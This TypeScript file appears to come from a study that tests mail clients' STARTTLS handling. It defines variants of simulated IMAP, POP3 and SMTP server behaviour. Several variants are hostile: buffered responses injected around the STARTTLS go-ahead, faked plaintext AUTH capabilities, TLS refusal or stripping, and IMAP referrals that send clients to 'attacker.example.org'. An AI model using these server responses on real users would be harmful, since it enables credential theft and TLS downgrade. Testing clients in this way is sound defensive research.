/**
 * The variants that the study keeps as commented lines of source: what each changes in its case's configuration. `lines` says
 * which of the case's `manual_variants` it transcribes, by index. Lines that go together come together, and each of them alone.
 */
import type { Config } from '../corpus.js';
import type { Status } from './imap-status.js';

export interface Variant {
  title: string;
  lines: readonly number[];
  change: Config | { greeting: Partial<Status> };
}

const referral = (path: string, text: string): Status => ({
  kind: 'No',
  tag: '<tag>',
  code: { Referral: `IMAP://;AUTH=*@attacker.example.org:243/${path}` },
  text,
});
const refersLogin = referral('', 'try another server.');
const refersSelect = referral('inbox', 'select failed.');

const imapSilence = { ignore_commands_tls: ['capability'] };
const imapGuess = {
  starttls_response:
    '<tag> OK begin STARTTLS now.\r\n* CAPABILITY IMAP4REV1 AUTH=PLAIN AUTH=LOGIN\r\n2 OK capability done.\r\n',
};
const pop3Silence = { ignore_commands_tls: ['auth'] };
const pop3Guess = {
  stls_response: '+OK Begin fake TLS negotiation now.\r\n+OK\r\nPLAIN\r\nLOGIN\r\n.\r\n',
};
const pop3Refusal = { stls_response: '-ERR STARTTLS not supported.\r\n' };
const smtpSilence = { ignore_commands_tls: ['ehlo'] };
const smtpGuess = {
  stls_response: '220 Ready to start TLS\r\n250-example.org\r\n250 AUTH LOGIN\r\n',
};
const plainGoAhead = { starttls_response: '<tag> OK begin STARTTLS now.\r\n' };
const alertAfterTls = { response_after_tls: '* OK [ALERT] after TLS.\r\n' };

/** By case. */
// biome-ignore format: a table, a variant a line
export const variants: Readonly<Record<string, readonly Variant[]>> = {
  'imap/Buffering/B_1': [
    { title: 'CAPABILITY unanswered', lines: [0], change: imapSilence },
    { title: 'its answer guessed', lines: [1], change: imapGuess },
    { title: 'unanswered and guessed', lines: [0, 1], change: { ...imapSilence, ...imapGuess } },
  ],
  'imap/Buffering/B_2': [
    { title: 'prefix', lines: [0], change: { starttls_response: '* OK [ALERT] prefix.\r\n<tag> OK begin STARTTLS now.\r\n' } },
    { title: 'suffix', lines: [1], change: { starttls_response: '<tag> OK begin STARTTLS now.\r\n* OK [ALERT] suffix.\r\n' } },
    { title: 'neither', lines: [2], change: plainGoAhead },
    { title: 'after TLS', lines: [3], change: alertAfterTls },
    { title: 'neither, after TLS', lines: [2, 3], change: { ...plainGoAhead, ...alertAfterTls } },
  ],
  'imap/Buffering/B_3': [
    { title: 'BYE', lines: [0], change: { starttls_response: '<tag> OK begin STARTTLS now.\r\n* BYE close the connection please.\r\n' } },
  ],
  'imap/Negotiation/L_1_A': [
    { title: 'LOGIN', lines: [0, 1, 2, 3], change: { override_login: refersLogin } },
    { title: 'AUTHENTICATE', lines: [4, 5, 6, 7], change: { override_authenticate: refersLogin } },
    { title: 'both', lines: [0, 1, 2, 3, 4, 5, 6, 7], change: { override_login: refersLogin, override_authenticate: refersLogin } },
  ],
  'imap/Negotiation/M_1_A': [
    { title: 'SELECT', lines: [0, 1, 2, 3], change: { override_select: refersSelect } },
  ],
  'imap/Negotiation/M_2_A': [
    { title: 'SELECT', lines: [0, 1, 2, 3], change: { override_select: refersSelect } },
  ],
  'imap/UI Spoofing/greeting/no/01_alert': [
    { title: 'NO', lines: [0], change: { greeting: { kind: 'No' } } },
  ],
  'imap/UI Spoofing/greeting/no/02_badcharset': [
    { title: 'NO', lines: [0], change: { greeting: { kind: 'No' } } },
  ],
  'imap/UI Spoofing/greeting/no/03_parse': [
    { title: 'NO', lines: [0], change: { greeting: { kind: 'No' } } },
  ],
  'imap/others/protocol/construction/greeting_tagged': [
    { title: 'tagged', lines: [0, 1, 2, 3], change: { greeting: { kind: 'Ok', tag: 'XYZ', code: null, text: '6Iy0xHRr' } } },
  ],
  'imap/others/protocol/greeting/02_greeting_no': [
    { title: 'NO', lines: [0], change: { greeting: { kind: 'No' } } },
  ],
  'imap/others/protocol/greeting/03_greeting_bad': [
    { title: 'BAD', lines: [0], change: { greeting: { kind: 'Bad' } } },
  ],
  'pop3/Buffering/B_1': [
    { title: 'AUTH unanswered', lines: [0], change: pop3Silence },
    { title: 'its answer guessed', lines: [1], change: pop3Guess },
    { title: 'unanswered and guessed', lines: [0, 1], change: { ...pop3Silence, ...pop3Guess } },
  ],
  'pop3/Buffering/B_2': [
    { title: 'AUTH unanswered', lines: [0], change: pop3Silence },
  ],
  'pop3/Negotiation/O_4': [
    { title: 'refused, and TLS all the same', lines: [0], change: pop3Refusal },
    { title: 'agreed, and no TLS', lines: [1], change: { stls_make_transition: false } },
    { title: 'refused', lines: [0, 1], change: { ...pop3Refusal, stls_make_transition: false } },
  ],
  'smtp/Buffering/B_1': [
    { title: 'EHLO unanswered', lines: [0], change: smtpSilence },
    { title: 'its answer guessed', lines: [1], change: smtpGuess },
    { title: 'unanswered and guessed', lines: [0, 1], change: { ...smtpSilence, ...smtpGuess } },
  ],
};

/** A case's configuration with the variant's changes; of a greeting only the named parts change. */
export function vary(config: Config, { change }: Variant): Config {
  const greeting = change.greeting as Partial<Status> | undefined;
  return {
    ...config,
    ...change,
    ...(greeting === undefined
      ? {}
      : { greeting: { ...(config.greeting as Status), ...greeting } }),
  };
}
